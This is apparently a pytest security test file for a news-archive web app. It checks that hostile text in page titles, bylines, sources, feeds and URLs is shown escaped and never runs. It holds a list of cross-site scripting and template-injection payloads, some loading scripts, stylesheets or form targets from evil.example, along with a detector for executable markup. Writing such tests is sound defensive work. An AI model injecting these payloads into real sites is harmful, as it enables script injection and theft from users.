"""Pages that try to run something at the desk: in a title, an outlet, a claim, a source, an address, a feed."""

import hashlib
from collections.abc import Iterator
from html import escape
from urllib.parse import quote

import pytest

from reportedly.archives.captured import Captured
from reportedly.desk.app import app
from reportedly.library import Library
from reportedly.pages.feeds import read_feed
from reportedly.reading import Reader
from reportedly.record import Article, Attribution, Block, Capture, Claim, Link, Record, Source

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style></textarea></script><script src=//evil.example/x.js></script>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input autofocus onfocus=alert(1)>",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "]]><svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "\u202ealert(1)\u202c\x07\ufeff<\u200bscript>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "--><!--><script>alert(1)</script>",
)
LOCATIONS = (
    "javascript:alert(1)//https://a.example/",
    'https://evil.example/"onmouseover=alert(1)//',
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/<script>alert(1)</script>?a=b&c='d'#e",
)
"""Where pages say they are from."""


def record(number: int) -> Record:
    """A record in which everything that a page can say is a payload."""
    words = PAYLOADS[number % len(PAYLOADS)]
    said = f"{words} said the bridge of {words} is closed and {words}"
    heading = f"Bridge closed {words}"
    text = f"{heading}\n{said}"
    span = (len(heading) + 1, len(text))
    location = LOCATIONS[number] if number < len(LOCATIONS) else f"https://a{number}.example/{quote(words)}"
    return Record(
        page=Capture(
            location=location,
            sha256=hashlib.sha256(text.encode()).hexdigest(),
            media_type="text/html",
            encoding="utf-8",
        ),
        text=text,
        blocks=(Block(span=(0, len(heading)), role="headline"), Block(span=span, role="paragraph")),
        article=Article(
            headline=heading,
            description=words,
            author=(words, f"Ada {words}"),
            publisher=f"The {words} Ledger",
            section=words,
            date_published=f"2026-03-{1 + number:02}T10:00:00Z",
            language="en",
        ),
        sources=(
            Source(
                id="s1", name=words, kind="person", named=True, anonymous=False, description=words, role=words
            ),
        ),
        attributions=(
            Attribution(
                id="a1",
                source=((span[0], span[0] + len(words)),),
                cue=((span[0] + len(words) + 1, span[0] + len(words) + 5),),
                content=((span[0] + len(words) + 6, span[1]),),
                quotation="indirect",
                chain=(Link(source="s1", span=(span[0], span[0] + len(words))),),
                stance="states",
                polarity="positive",
                certainty="certain",
                confidence=0.9,
            ),
        ),
        claims=(
            Claim(
                id="c1",
                span=span,
                text=said,
                attribution="a1",
                chain=(Link(source="s1", span=(span[0], span[0] + len(words))),),
                certainty="certain",
                polarity="positive",
            ),
        ),
        headline=None,
    )


def document(words: str, *, number: int) -> bytes:
    """A page with ``words`` wherever a reader looks, as text and as markup that would run."""
    shown = escape(words, quote=True)
    paragraphs = "".join(
        f"<p>The mayor, {shown}, said on Monday that the harbour bridge number {at} is closed. {words}</p>"
        for at in range(4)
    )
    return (
        f"<!DOCTYPE html><html><head><title>{shown}</title>"
        f'<meta property="og:site_name" content="{shown}"><meta property="og:title" content="Bridge {shown}">'
        f'<meta name="author" content="{shown}"><link rel="canonical" href="https://h{number}.example/{quote(words)}">'
        f'<meta property="article:published_time" content="2026-03-03T0{number % 10}:00:00Z"></head><body><article>'
        f'<h1>Bridge {shown}</h1><p class="byline">By {shown}</p>{paragraphs}<blockquote>{shown}</blockquote>'
        f"</article></body></html>"
    ).encode()


FEED = f"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>{escape(PAYLOADS[0])}</title>
<entry><title type="html">{escape(PAYLOADS[1])}</title><id>x</id><link href="javascript:alert(1)"/>
<link href="https://f.example/1"/>
<content type="html">{escape("<p>The bridge is closed.</p>" + PAYLOADS[2])}</content>
</entry></feed>"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A library of such pages: some as the reader reads them, some with records that no reader would give."""
    made = str(tmp_path_factory.mktemp("hostile") / "library.sqlite")
    places = [f"https://h{number}.example/{quote(words)}" for number, words in enumerate(PAYLOADS)]
    places += [entry.location for entry in read_feed(FEED.encode(), "https://f.example/feed").entries]
    with Library(made) as library, Reader(1) as reader:
        library.add(*(record(number) for number in range(len(PAYLOADS))))
        for number, place in enumerate(places):
            data = document(PAYLOADS[number % len(PAYLOADS)], number=number)
            read = reader.read(Captured(location=place, data=data))
            assert isinstance(read, Record)
            library.add(read)
        library.stories(limit=1)
    return made


@pytest.fixture(scope="module")
def at(hostile: str, serve) -> Iterator[str]:
    with serve(app(hostile)) as address:
        yield address


def everything(location: str) -> list[str]:
    """The address of every page of the desk of a library."""
    with Library(location, read_only=True) as library:
        stories = library.stories()
        claims = [claim for story in stories for claim in library.claims(story.id)]
        pages = [row.id for row in library.pages()]
    named = [*PAYLOADS, *(f"The {words} Ledger" for words in PAYLOADS)]
    found = ["/", "/search", "/try", "/api/", f"/search?q={quote('bridge')}"]
    found += [f"/stories/{story.id}" for story in stories]
    found += [f"/claims/{claim.id}" for claim in claims]
    found += [f"/pages/{page}" for page in pages]
    found += ["/sources/" + quote(name, safe="") for name in named]
    found += ["/search?q=" + quote(words, safe="") for words in PAYLOADS]
    found += [
        "/search?outlet=" + quote(words, safe="") + "&from=" + quote(words, safe="") for words in PAYLOADS
    ]
    found += [
        f"/{kind}/" + quote(words, safe="") for kind in ("stories", "claims", "pages") for words in PAYLOADS
    ]
    return found


RAN = """() => [
    ...document.querySelectorAll("script:not([src^='/static/']), iframe, base, object, embed, meta[http-equiv]"),
    ...document.querySelectorAll("link:not([href^='/static/']), form:not([action^='/']), img, math"),
    ...[...document.querySelectorAll("*")].filter((one) => [...one.attributes].some((given) =>
        given.name.startsWith("on") || /^(href|src|action|data|xlink:href)$/.test(given.name)
        && /^\\s*(javascript|data):/i.test(given.value))),
].map((one) => one.outerHTML.slice(0, 200))"""


def test_nothing_that_a_page_says_runs_anywhere_on_the_desk(hostile: str, at: str, window) -> None:
    seen = window(at)
    seen.expected = {400, 404}
    found = []
    addresses = everything(hostile)
    for address in addresses:
        seen.open(address)
        found += [f"{address}: {one}" for one in seen.page.evaluate(RAN)]
    assert found == []
    assert len(addresses) > 150


def test_what_a_page_says_is_shown_to_the_letter(hostile: str, at: str, window) -> None:
    seen = window(at)
    seen.open("/search?q=closed&kind=page")
    told = seen.page.locator(".hits").inner_text()
    assert "<script>alert(1)</script>" in told
    assert "{{ 7*7 }}" in told
    assert "49" not in told


def test_what_is_pasted_runs_as_little(at: str, window) -> None:
    seen = window(at)
    for words in ("\n\n".join(PAYLOADS), document(PAYLOADS[1], number=1).decode()):
        seen.open("/try")
        seen.page.get_by_label("A link, or the text of a page").fill(f"The mayor said it.\n\n{words}")
        seen.page.get_by_role("button", name="Read it").click()
        seen.page.get_by_role("heading", name="At a glance").wait_for()
        assert seen.page.evaluate(RAN) == []


def test_words_in_an_address_are_shown_not_run(at: str, window) -> None:
    seen = window(at)
    seen.expected = {400, 404}
    for words in PAYLOADS:
        given = quote(words, safe="")
        asked = [f"{name}={given}" for name in ("q", "kind", "outlet", "from", "to", "start")]
        assert seen.open(f"/search?{'&'.join(asked)}").status == 400
        assert seen.page.evaluate(RAN) == []
        seen.open(f"/{quote(words, safe='')}")
        assert seen.page.evaluate(RAN) == []
